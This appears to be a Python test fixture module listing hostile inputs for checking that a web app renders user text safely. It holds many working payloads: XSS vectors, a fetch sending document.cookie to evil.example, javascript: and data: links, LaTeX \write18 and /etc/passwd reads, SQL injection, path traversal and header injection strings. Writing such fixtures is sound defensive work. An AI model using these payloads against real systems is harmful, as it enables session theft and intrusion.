"""What a hostile writer puts into a field, hoping that some screen reads it as more than text.

Each that runs would call alert, set ``window.pwned`` or ask evil.example for something; each that
is read as markup would leave an element, a colour or a formula behind. Written for these tests.
"""

from __future__ import annotations

_RUN = "alert(1)"
_SET = "window.pwned=1"
_ASK = "fetch('http://evil.example/'+document.cookie)"
_IMG = "http://evil.example/i.png"

_HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle"),
    *("onanimationstart", "onbegin", "oncut", "onbeforeinput", "onscroll"),
)
_TAGS = (
    *("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe"),
    *("marquee", "select autofocus", "object data=x"),
)
_TAGGED = tuple(
    f"<{tag} {handler}={code}>"
    for number, tag in enumerate(_TAGS)
    for handler, code in zip(
        _HANDLERS[number % 3 :: 3], (_RUN, _SET, f'"{_ASK}"', "alert`1`"), strict=False
    )
)
_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_SET}</SCRIPT>",
    "<script src=//evil.example/s.js></script>",
    f"<script type=module>{_ASK}</script>",
    f"</script><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\t>{_SET}</script >",
    f"<script/x>{_RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></table></math>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_SET} attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_SET}</script>'></svg>",
    f'<iframe srcdoc="<script>parent.{_SET.removeprefix("window.")}</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=http://evil.example/></iframe>",
    "<embed src=http://evil.example/e.swf>",
    "<object data=javascript:alert(1)></object>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<x contenteditable onblur={_RUN}>x</x>",
)
_OUT_OF = (
    f'"><img src=x onerror={_RUN}>',
    f"'><svg onload={_SET}>",
    f'" autofocus onfocus={_RUN} x="',
    f"' onmouseover='{_SET}",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_SET}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><img src=x onerror={_RUN}>",
    f"</style><script>{_SET}</script>",
    "</span></div></section><h1>Breaking</h1>",
    f'\\"); {_RUN}; //',
    f"'; {_SET}; '",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    f"`-{_RUN}-`",
)
_ADDRESSES = (
    f"<a href=javascript:{_RUN}>read on</a>",
    f"<a href='JaVaScRiPt:{_SET}'>read on</a>",
    "<a href=' \tjavascript:alert(1)'>read on</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>read on</a>",
    "<a href=vbscript:msgbox(1)>read on</a>",
    "<a href=//evil.example target=_blank>read on</a>",
    "<form action=http://evil.example/><button>Send</button></form>",
    "<button formaction=javascript:alert(1)>Go</button>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/s.css>",
    "<link rel=prefetch href=http://evil.example/p>",
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "blob:http://evil.example/1",
    "http://evil.example/?q=<script>alert(1)</script>",
)
_FETCHES = (
    f"<img src={_IMG}>",
    f"<img srcset='{_IMG} 2x'>",
    f"<picture><source srcset={_IMG}><img src=x></picture>",
    f"<video poster={_IMG}></video>",
    "<audio src=http://evil.example/a.mp3 autoplay></audio>",
    "<track src=http://evil.example/t.vtt>",
    f"<input type=image src={_IMG}>",
    f"<svg><image href={_IMG}></image></svg>",
    f"<svg><use href={_IMG}#a></use></svg>",
    f"<table background={_IMG}><td>x</td></table>",
    f"<div style='background:url({_IMG})'>x</div>",
    f"<style>@import url({_IMG});</style>",
    f"<style>body{{background:url({_IMG})}}</style>",
    "<style>*{display:none!important}</style>",
    "<style>.stApp{transform:rotate(180deg)}</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Sign in</div>",
    "<font size=99 color=red>LOUD</font>",
    "<pre><code><h1>big</h1></code></pre>",
    "<plaintext>",
    "<table><tr><td width=99999>wide</td></tr></table>",
)
_MARKDOWN = (
    f"![x]({_IMG})",
    f'![x]({_IMG} "title" onerror=alert(1))',
    f"[![x]({_IMG})](http://evil.example/)",
    f"[x]: {_IMG}",
    "![x][1] [1]: http://evil.example/1.png",
    "[read on](javascript:alert(1))",
    "[read on](<javascript:alert(1)>)",
    "[read on](data:text/html,<script>alert(1)</script>)",
    "[read on](http://evil.example/)",
    "<http://evil.example/auto>",
    "www.evil.example",
    "# A heading that shouts",
    "> a quote that is none",
    "- a list - of none",
    "1. one 2. two",
    "**bold** __bold__ *slanted* _slanted_ ***both***",
    "~~struck~~ ~sub~ ^sup^ ==lit==",
    "`code` ``more ` code`` ```python print(1)```",
    "| a | b | |---|---| | 1 | 2 |",
    "--- *** ___",
    "[^1] and [^1]: a note",
    "- [x] done - [ ] not",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "\\<b\\> \\*not slanted\\* \\[x\\]\\(y\\)",
    ":red[loud] :blue-background[louder] :rainbow[loudest]",
    ":material/warning: :smile: :streamlit:",
    ":small[hush] :orange-badge[paid]",
    "[1] [2][3] [99] 【1】",
    "<!-- a comment that hides --> <?php echo 1 ?>",
)
_FORMULAS = (
    "It cost $5 and $9 and \\$3",
    "$x^2$ and $$\\int_0^1 x\\,dx$$",
    "\\(a+b\\) and \\[a+b\\]",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{http://evil.example/}$",
    f"$\\includegraphics{{{_IMG}}}$",
    "$\\htmlClass{stApp}{x}$ $\\htmlStyle{position:fixed}{x}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\rule{9999em}{9999em}$",
    "$\\color{red}{\\Huge LOUD}$",
    "\\begin{equation}x\\end{equation}",
    "\\input{/etc/passwd} \\write18{id}",
    "\\newcommand{\\x}{\\x\\x}\\x",
    '=HYPERLINK("http://evil.example/","x") +1 -1 @SUM(1)',
)
_TEXTS = (
    "'; DROP TABLE articles; -- \" OR 1=1",
    "../../../../etc/passwd ..\\..\\windows\\win.ini",
    "%3Cscript%3Ealert(1)%3C/script%3E %00 %0d%0aSet-Cookie:x=1",
    "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    '{"__proto__":{"pwned":1}} __class__.__mro__ %(x)s {0} %s %n',
    "＜script＞alert(1)＜/script＞ ‹b›",
    "W" * 300,
    "http://evil.example/" + "a" * 300,
    "ﷺ" * 12 + " Z̸̢̛̳a̷̡̧l̶̨̛g̸̡̛o̵̢̧ " + "é" * 20,
    "مرحبا abc שלום 123 עולם",
    "👩‍👩‍👧‍👦🏳️‍🌈👍🏽 " * 6,
    "NULL None undefined NaN true [object Object]",
)
PAYLOADS: tuple[str, ...] = (
    *(*_TAGGED, *_SCRIPTS, *_OUT_OF, *_ADDRESSES, *_FETCHES),
    *(*_MARKDOWN, *_FORMULAS, *_TEXTS),
)
